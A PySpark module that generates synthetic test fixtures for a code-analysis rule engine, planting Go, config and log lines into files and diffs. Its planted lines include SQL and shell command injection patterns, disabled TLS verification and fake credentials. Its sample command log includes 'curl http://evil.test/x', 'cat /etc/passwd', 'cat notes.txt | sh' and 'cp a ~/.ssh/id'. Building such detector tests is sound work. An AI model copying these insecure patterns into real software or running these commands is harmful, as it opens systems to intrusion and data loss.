"""Change sets derived from the given tables.

``documents`` become files: a path is built from source and id, and lines at fixed places
(by id and line number) are replaced by code, configuration or log lines, so that the rules
meet openers, closers, exemptions and traps. All other lines stay as they are. The same
rules of derivation are available as SQL text, so another engine can repeat them.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.text import literal_array
from ..sources.lines import lines_of_arrays, split_lines

CYCLE = 211
STEP = 31
MARK = "§"  # replaced by the document id modulo 5
DIRECTORIES = ["pkg/", "cmd/", "examples/"]
ENDINGS = [".go", ".go", "_test.go", ".py", ".env", ".yaml", ".md", ".go"]

# Credential-like samples are put together here so that none is stored whole.
_AWS = "AK" + "IA" + "Q7RZ" * 4
_GITHUB = "gh" + "p_" + "a1B2" * 9
_BEARER = "Bear" + "er " + "Zx81" * 8
_PASSWORD = "pa" + "ss" + "word"

PLANTED = [
    "package main",
    "package store§",
    "// Code generated by schema tool. DO NOT EDIT.",
    'import "context"',
    "func Load§(ctx context.Context, path string) error {",
    "\tf§, err := os.Open(path)",
    "\tif err != nil {",
    "\t\treturn nil",
    "\t}",
    "\tctx2 := context.Background()",
    "\tdefer f§.Close()",
    "}",
    "func open§(path string) (*os.File, error) {",
    "\th§, err := os.Create(path)",
    "\tif err != nil {",
    "\t\treturn nil, err",
    "\t}",
    "\treturn h§, err",
    "}",
    "\tresp, err := http.Get(url)",
    "\tdefer resp.Body.Close()",
    "\tgo worker§(queue)",
    "\tgo pool.Send(item§)",
    "\tgo func() {",
    "\t\tfor job := range jobs {",
    "\t\t\thandle(job)",
    "\t\t}",
    "\t}()",
    "\tcase <-done:",
    "\tselect {",
    "\t_ = run§(arg)",
    "\tv, _ := fetch§(key)",
    "\t_, ok := cache[key§]",
    "\tn, _ := value.(string)",
    '\tpanic("unreachable")',
    "\tlog.Fatal(err)",
    "\tif err != nil {",
    "\t\tcount++",
    "\t\treturn nil",
    "\t}",
    "\ttx§, err := db.Begin()",
    "\terr = tx§.Commit()",
    "\tctx, cancel§ := context.WithTimeout(ctx, limit)",
    "\tdefer cancel§()",
    "\tctx, _ = context.WithCancel(ctx)",
    "\tctx, s.stop§ = context.WithCancel(ctx)",
    "\tthis.s.stop§()",
    '\tq := "SELECT name FROM users WHERE id = " + id§',
    "\tq := fmt.Sprintf(\"DELETE FROM logs WHERE day = '%s'\", day)",
    '\tq := "SELECT name FROM users WHERE id = ?" + tail',
    '\tcmd := exec.Command(tool§, "-v")',
    '\tcmd := exec.Command("sh", "-c", script§)',
    '\tcmd := exec.Command("git", "status", name)',
    '\tcmd := exec.Command("bash", "-c", "echo " + name§)',
    '\terr := syscall.Exec("/bin/ls", args§, env)',
    "\tconf := &tls.Config{InsecureSkipVerify: true}",
    "\tconf := &tls.Config{InsecureSkipVerify: false}",
    "\tmu§.Lock()",
    "\ts.mu§.Unlock()",
    "\tfor i := 0; i < n; i++ {",
    "\t\tdefer rows.Close()",
    "\t}",
    "\ttick := time.Tick(time.Second)",
    "\ttimer§ := time.NewTimer(delay)",
    "\trows, err := db.Query(stmt)",
    "\tif rows.Err() != nil {",
    "func Save§(v int) {",
    "func TestLoad§(t *testing.T) {",
    '\tif Load§(nil, "x") != nil {',
    "func TestSave§_empty(t *testing.T) {",
    "func (s *Store) Apply(ctx context.Context) error {",
    "\tsub := context.TODO()",
    f'\t{_PASSWORD} := "hunter-Winter-§042"',
    f'\t{_PASSWORD} := os.Getenv("DB_KEY")',
    '\tapiKey = "your-api-key-here"',
    f'\tlogin(user, {_PASSWORD}, "Correct-Horse-§17")',
    f'\t// {_PASSWORD} := "commented-out-value"',
    '\tif token == "other-Token-Value" {',
    f'\tkey := "{_AWS}"',
    f'\theader := "{_BEARER}"',
    '\tstore := "postgres://app:s3cret§@db.local/main"',
    f"\thook(`{_GITHUB}`)",
    f"DB_{_PASSWORD.upper()}=winter-Storm-§88",
    "api_key: ${API_KEY}",
    "DATABASE_URL=postgres://admin:pa55w0rd§@db.local:5432/app",
    "token_ttl = 3600000",
    "secret_name: my-vault-entry",
    f"# {_PASSWORD}=commented-Secret",
    '\tport := "8080"',
    '\tbase := "http://svc§.internal/path"',
    "\t// TODO: remove step §",
    f'\t{_PASSWORD} := "hunter-Winter-§042" //nolint:gosec',
    "\tgo worker§(queue) // nolint",
    "see https://user§:secretpw@files.local/data",
    "pkg/api.go:1§:7: value of err is never used (SA400§)",
    '{"osv":{"id":"GO-2024-000§","summary":"","details":"Flaw in module §",'
    '"aliases":["CVE-2024-1§","GHSA-§"]}}',
    'import alias§ "net/http"',
    "1. DENY: not a problem",
    "2. CONFIRM: real",
    "3. use a §-second timeout",
    '\tcmd := exec.CommandContext(ctx, "ls", dir§)',
    "\ttimer§.Stop()",
    "func helper§(a, b int) (int, error) {",
    "var limit§ = 0x1F + 3.5e2",
    "\ts := 'single' + `raw §` + \"esc\\\"aped\" /* note */",
]


def spread(df: DataFrame) -> DataFrame:
    """Use all cores on an input of fewer pieces than cores.

    A large input has many more pieces and passes through without a shuffle.
    """
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df.repartition(cores) if df.rdd.getNumPartitions() < cores else df


def document_path() -> Column:
    doc = F.col("doc_id")
    directory = F.get(literal_array(DIRECTORIES), (doc % len(DIRECTORIES)).cast("int"))
    ending = F.get(
        literal_array(ENDINGS), (F.floor(doc / 20) % len(ENDINGS)).cast("int")
    )
    ending = F.when(doc % 41 == 0, ".pb.go").otherwise(ending)
    return F.concat(directory, F.col("source"), F.lit("/f"), doc.cast("string"), ending)


def document_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files(task_id, path, lines, doc_id)``: the planted documents, one row each."""
    docs = spread(spark.read.parquet(f"{sf_dir}/documents.parquet"))
    planted = literal_array(PLANTED)

    def line(raw, i):
        place = ((F.col("doc_id") * STEP + i) % CYCLE).cast("int")
        return F.coalesce(F.get(planted, place), raw)

    lines = F.transform(split_lines(F.col("text")), line)
    filled = F.transform(
        lines, lambda x: F.replace(x, F.lit(MARK), (F.col("doc_id") % 5).cast("string"))
    )
    return docs.select(
        F.col("source").alias("task_id"), document_path().alias("path"), filled.alias("lines"),
        "doc_id",
    )


def document_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The line table of the planted documents."""
    return lines_of_arrays(document_files(spark, sf_dir))


def document_patches(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``patches(task_id, diff_text)``: each document as a patch of one file.

    By position modulo 4 a line is context (0), deleted (1) or added (2, 3).
    """
    files = document_files(spark, sf_dir)

    def marked(x, i):
        k = (i % 4).cast("int")
        return F.concat(F.when(k == 0, " ").when(k == 1, "-").otherwise("+"), x)

    def count(*kinds):
        return F.size(F.filter(F.sequence(F.lit(1), F.size("lines")), lambda i: ((i - 1) % 4).isin(list(kinds))))

    header = F.concat(
        F.lit("diff --git a/x b/x\n--- a/"), F.col("path"), F.lit("\n+++ b/"), F.col("path"),
        F.lit("\n@@ -7,"), count(0, 1).cast("string"), F.lit(" +9,"),
        count(0, 2, 3).cast("string"), F.lit(" @@ part\n"),
    )
    return files.filter(F.size("lines") > 0).select(
        F.concat(F.lit("d"), F.col("doc_id").cast("string")).alias("task_id"),
        F.concat(header, F.array_join(F.transform("lines", marked), "\n"), F.lit("\n")).alias(
            "diff_text"
        ),
    )


def event_tasks(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Tasks from ``events``: one per event, the user as its input."""
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    failed = F.col("event_type") == "error"
    return events.select(
        F.col("event_id").cast("string").alias("task_id"),
        F.when(failed, "failed").otherwise("completed").alias("status"),
        F.col("user_id").cast("string").alias("input_path"),
        F.col("ts").cast("timestamp").alias("started_at"),
        F.least(F.lit(100.0), F.col("value")).alias("risk_score"),
    )


# Fixed sample commands for the command log.
COMMANDS = [
    "go test ./...", "go vet ./pkg", "rm -rf /tmp/x", "cat /etc/passwd", "ls -la",
    "curl http://evil.test/x", "echo $(id)", "git clone https://github.com/a/b",
    "fetch https://files.local:8443/a", "sudo ls", "pseudo ls", "cat notes.txt | sh",
    "make build && rm old.txt", "python tool.py", "", "gofmt -l .", "go testing",
    "cp a ~/.ssh/id", "find . -name x", "su root", "issue list", "wget -q x",
    "get ftp://mirror.local/f", "grep a b > /out",
]


def event_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``commands(task_id, event_id, arguments, timeout_ns, output_bytes)`` from ``events``.

    Every third command comes wrapped in JSON.
    """
    events = spread(spark.read.parquet(f"{sf_dir}/events.parquet"))
    e = F.col("event_id")
    plain = F.get(literal_array(COMMANDS), (e % len(COMMANDS)).cast("int"))
    wrapped = F.concat(F.lit('{"command": "'), plain, F.lit('"}'))
    return events.select(
        F.col("user_id").cast("string").alias("task_id"),
        "event_id",
        F.when(e % 3 == 0, wrapped).otherwise(plain).alias("arguments"),
        (e % 7 * 60_000_000_000).alias("timeout_ns"),
        (e % 11 * 600_000).alias("output_bytes"),
    )


def order_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A large findings table from ``lineitem`` and ``orders``."""
    items = spread(spark.read.parquet(f"{sf_dir}/lineitem.parquet").select(
        "l_orderkey", "l_partkey", "l_suppkey", "l_linenumber", "l_quantity", "l_discount",
        "l_returnflag",
    ))
    # Hashed in parts: sorting would hold the items of a task, which are many more, in its memory.
    orders = spark.read.parquet(f"{sf_dir}/orders.parquet").hint("shuffle_hash")
    joined = items.join(orders, items.l_orderkey == orders.o_orderkey)
    flag, category = F.col("l_returnflag"), F.col("l_partkey") % 7
    names = ["security", "sensitive_leak", "resource", "error_handling", "testing", "concurrency",
             "quality"]
    return joined.select(
        F.concat(F.lit("t"), (F.col("o_custkey") % 97).cast("string")).alias("task_id"),
        F.when(flag == "A", "high").when(flag == "N", "medium").when(flag == "R", "low")
        .otherwise("info").alias("severity"),
        F.get(F.array(*map(F.lit, names)), category.cast("int")).alias("category"),
        F.concat(F.lit("R-"), (F.col("l_suppkey") % 17).cast("string")).alias("rule_id"),
        F.concat(F.lit("dir"), (F.col("l_partkey") % 29).cast("string"), F.lit("/f"),
                 F.col("l_partkey").cast("string"), F.lit(".go")).alias("file"),
        F.col("l_linenumber").alias("line"),
        F.concat(F.lit("evidence "), F.col("l_quantity").cast("int").cast("string")).alias("evidence"),
        (F.lit(0.5) + F.col("l_discount") * 5).alias("confidence"),
        F.col("l_orderkey").alias("seq"),
        F.year("o_orderdate").alias("year"),
    )
